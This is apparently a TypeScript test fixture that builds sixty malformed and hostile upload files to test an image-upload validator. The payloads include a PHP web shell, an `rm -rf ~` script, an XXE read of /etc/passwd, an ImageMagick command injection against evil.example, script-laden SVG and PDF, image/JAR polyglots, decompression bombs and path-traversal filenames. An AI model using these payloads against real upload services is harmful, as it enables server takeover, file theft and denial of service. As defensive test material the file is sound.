// Files that no market wants: what is no picture, what is two things at once, bombs, broken ones.
import { randomBytes } from 'node:crypto';
import { crc32, deflateSync, gzipSync } from 'node:zlib';
import sharp from 'sharp';

export interface HostileFile {
  readonly title: string;
  readonly name: string;
  readonly bytes: Buffer;
}

const SCRIPT = '<script>fetch("/v1/user/api/auth/info")</script>';
const SVG = `<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)" width="9" height="9">${SCRIPT}</svg>`;
const HTML = `<!doctype html><html><body>${SCRIPT}</body></html>`;

const hex = (digits: string) => Buffer.from(digits.replaceAll(' ', ''), 'hex');
const u32 = (value: number) => {
  const bytes = Buffer.alloc(4);
  bytes.writeUInt32BE(value);
  return bytes;
};
const concatBytes = (...parts: readonly (Buffer | string)[]) =>
  Buffer.concat(parts.map((part) => Buffer.from(part)));

const PNG = hex('89504e47 0d0a1a0a');
const chunk = (type: string, data: Buffer) => {
  const body = concatBytes(type, data);
  return concatBytes(u32(data.length), body, u32(crc32(body)));
};
/** A PNG that says it has that size, whatever its pixels are. */
const pngSaying = (width: number, height: number, data: Buffer) =>
  concatBytes(
    PNG,
    chunk('IHDR', concatBytes(u32(width), u32(height), hex('08 02 00 00 00'))),
    chunk('IDAT', data),
    chunk('IEND', Buffer.alloc(0)),
  );
const gifSaying = (width: number, height: number) => {
  const size = Buffer.alloc(4);
  size.writeUInt16LE(width, 0);
  size.writeUInt16LE(height, 2);
  return concatBytes(
    'GIF89a',
    size,
    hex('80 00 00 000000 ffffff 2c 0000 0000'),
    size,
    hex('00 02 02 4c01 00 3b'),
  );
};
const jpegSaying = (width: number, height: number) =>
  concatBytes(
    hex('ffd8 ffe0 0010 4a464946 00 0101 00 0001 0001 0000 ffc0 0011 08'),
    u32(height).subarray(2),
    u32(width).subarray(2),
    hex('03 011100 021100 031100 ffda 000c 03 0100 0200 0300 00 3f 00 ffd9'),
  );
const webpSaying = (width: number, height: number) => {
  const size = Buffer.alloc(10);
  size.writeUIntLE(width - 1, 4, 3);
  size.writeUIntLE(height - 1, 7, 3);
  return concatBytes('RIFF', hex('16000000'), 'WEBPVP8X', hex('0a000000'), size);
};

/** A ZIP with one stored file in it, and a comment behind. */
const zip = (content: Buffer, comment = '') => {
  const name = Buffer.from('META-INF/MANIFEST.MF');
  const sizes = Buffer.alloc(12);
  sizes.writeUInt32LE(crc32(content), 0);
  sizes.writeUInt32LE(content.length, 4);
  sizes.writeUInt32LE(content.length, 8);
  const local = concatBytes(hex('504b0304 1400 0000 0000 0000 0000'), sizes, hex('1400 0000'), name, content);
  const entry = concatBytes(
    hex('504b0102 1400 1400 0000 0000 0000 0000'),
    sizes,
    hex('1400 0000 0000 0000 0000 00000000 00000000'),
    name,
  );
  const end = Buffer.alloc(22);
  hex('504b0506').copy(end);
  end.writeUInt16LE(1, 8);
  end.writeUInt16LE(1, 10);
  end.writeUInt32LE(entry.length, 12);
  end.writeUInt32LE(local.length, 16);
  end.writeUInt16LE(comment.length, 20);
  return concatBytes(local, entry, end, comment);
};

const noise = () => sharp(randomBytes(300 * 200 * 3), { raw: { width: 300, height: 200, channels: 3 } });
const firstHalf = (file: Buffer) => file.subarray(0, file.length / 2);
const spoilt = (file: Buffer) => {
  const copy = Buffer.from(file);
  for (let at = 60; at < copy.length; at += 7) copy[at] = copy[at]! ^ 0xa5;
  return copy;
};

/** Sixty of them. */
export const hostileFiles = async (): Promise<HostileFile[]> => {
  const [jpeg, png, webp, gif, avif, tiff] = (await Promise.all(
    (['jpeg', 'png', 'webp', 'gif', 'avif', 'tiff'] as const).map((kind) =>
      noise().toFormat(kind).toBuffer(),
    ),
  )) as [Buffer, Buffer, Buffer, Buffer, Buffer, Buffer];
  const jar = zip(Buffer.from('Manifest-Version: 1.0'));
  const zeros = Buffer.alloc(5_000_000);
  const files: [what: string, name: string, bytes: Buffer | string][] = [
    ['an SVG with a script', 'a.svg', SVG],
    ['an SVG called a JPEG', 'a.jpg', SVG],
    ['an SVG behind a declaration', 'a.png', `<?xml version="1.0"?>${SVG}`],
    [
      'an SVG that reads a file',
      'a.svg',
      `<!DOCTYPE x [<!ENTITY f SYSTEM "file:///etc/passwd">]><svg>&f;</svg>`,
    ],
    ['a packed SVG', 'a.svgz', gzipSync(SVG)],
    ['HTML', 'a.html', HTML],
    ['HTML called a JPEG', 'a.jpg', HTML],
    ['HTML behind the mark of a JPEG', 'a.jpg', concatBytes(hex('ffd8ff'), HTML)],
    ['HTML behind the mark of a GIF', 'a.gif', `GIF89a/*${HTML}*/=1;`],
    ['HTML behind the mark of a PNG', 'a.png', concatBytes(PNG, HTML)],
    ['HTML behind the mark of a WebP', 'a.webp', concatBytes('RIFF', u32(9), 'WEBP', HTML)],
    ['HTML behind the mark of an AVIF', 'a.avif', concatBytes(u32(24), 'ftypavif', HTML)],
    ['PHP', 'a.php.jpg', '<?php system($_GET["c"]); ?>'],
    ['a script', 'a.js', 'alert(document.cookie)'],
    ['JSON', 'a.json', '{"a":1}'],
    ['a shell script', 'a.jpg', '#!/bin/sh\nrm -rf ~'],
    [
      "ImageMagick's own language",
      'a.mvg',
      'push graphic-context\nfill \'url(https://evil.example/x"|id")\'',
    ],
    ['PostScript', 'a.eps', '%!PS-Adobe-3.0 EPSF-3.0\nshowpage'],
    ['a PDF', 'a.pdf', '%PDF-1.7\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj'],
    ['one byte', 'a.jpg', 'x'],
    ['zeros', 'a.png', Buffer.alloc(10_000)],
    ['noise', 'a.jpg', randomBytes(10_000)],
    ['a ZIP', 'a.zip', jar],
    ['a program', 'a.exe', concatBytes('MZ', randomBytes(200))],
    ['another program', 'a', concatBytes(hex('7f454c46'), randomBytes(200))],
    ['a class', 'a.class', concatBytes(hex('cafebabe'), randomBytes(200))],
    ['WebAssembly', 'a.wasm', concatBytes(hex('0061736d 01000000'))],
    ['a film', 'a.mp4', concatBytes(u32(24), 'ftypisom', randomBytes(200))],
    ['a QuickTime film', 'a.mov', concatBytes(u32(24), 'ftypqt  ', randomBytes(200))],
    ['music', 'a.mp3', concatBytes('ID3', randomBytes(200))],
    ['a bitmap', 'a.bmp', concatBytes('BM', randomBytes(200))],
    ['an icon', 'a.ico', concatBytes(hex('00000100 0100'), randomBytes(200))],
    ['a TIFF, which is a picture, but none for pages', 'a.tiff', tiff],
    ['a TIFF called a JPEG', 'a.jpg', tiff],
    ['a Photoshop file', 'a.psd', concatBytes('8BPS', randomBytes(200))],
    ['a JPEG 2000', 'a.jp2', concatBytes(hex('0000000c 6a502020 0d0a870a'), randomBytes(200))],
    ['a HEIC without pixels', 'a.heic', concatBytes(u32(24), 'ftypheic', randomBytes(200))],
    ['a GIF that is a JAR', 'a.gif', concatBytes(gif, jar)],
    ['a JPEG that is a JAR', 'a.jpg', concatBytes(jpeg, jar)],
    ['a PNG that is a JAR', 'a.png', concatBytes(png, jar)],
    ['a WebP that is a JAR', 'a.webp', concatBytes(webp, jar)],
    [
      'a GIF that is a JAR with a comment',
      'a.gif',
      concatBytes(gif, zip(Buffer.from('x'), 'c'.repeat(60_000))),
    ],
    ['a JAR with more behind it', 'a.jpg', concatBytes(jpeg, jar, 'more')],
    ['a PNG of 65535 by 65535', 'a.png', pngSaying(65_535, 65_535, deflateSync(zeros))],
    [
      'a PNG of 2147483647 by 2147483647',
      'a.png',
      pngSaying(2_147_483_647, 2_147_483_647, deflateSync(zeros)),
    ],
    ['a PNG of no pixels', 'a.png', pngSaying(0, 0, deflateSync(Buffer.alloc(1)))],
    ['a PNG just over the limit', 'a.png', pngSaying(40_001, 1_000, deflateSync(zeros))],
    [
      'a PNG with fewer pixels than it says',
      'a.png',
      pngSaying(5_000, 5_000, deflateSync(Buffer.alloc(100))),
    ],
    ['a GIF of 65535 by 65535', 'a.gif', gifSaying(65_535, 65_535)],
    ['a JPEG of 65535 by 65535', 'a.jpg', jpegSaying(65_535, 65_535)],
    ['a WebP of 16777216 by 16777216', 'a.webp', webpSaying(16_777_216, 16_777_216)],
    ['a ZIP bomb', 'a.png', zip(deflateSync(zeros))],
    ['a gzip bomb', 'a.jpg', gzipSync(zeros)],
    ['half a JPEG', 'a.jpg', firstHalf(jpeg)],
    ['half a PNG', 'a.png', firstHalf(png)],
    ['half a WebP', 'a.webp', firstHalf(webp)],
    ['half an AVIF', 'a.avif', firstHalf(avif)],
    ['a spoilt PNG', '../../../etc/cron.d/a.png', spoilt(png)],
    ['the head of a GIF', `a\0.gif`, gif.subarray(0, 13)],
    [
      'a tenth of a WebP with a name of 4 KB',
      `${'a'.repeat(4_096)}.webp`,
      webp.subarray(0, webp.length / 10),
    ],
  ];
  return files.map(([title, name, bytes]) => ({ title, name, bytes: Buffer.from(bytes) }));
};
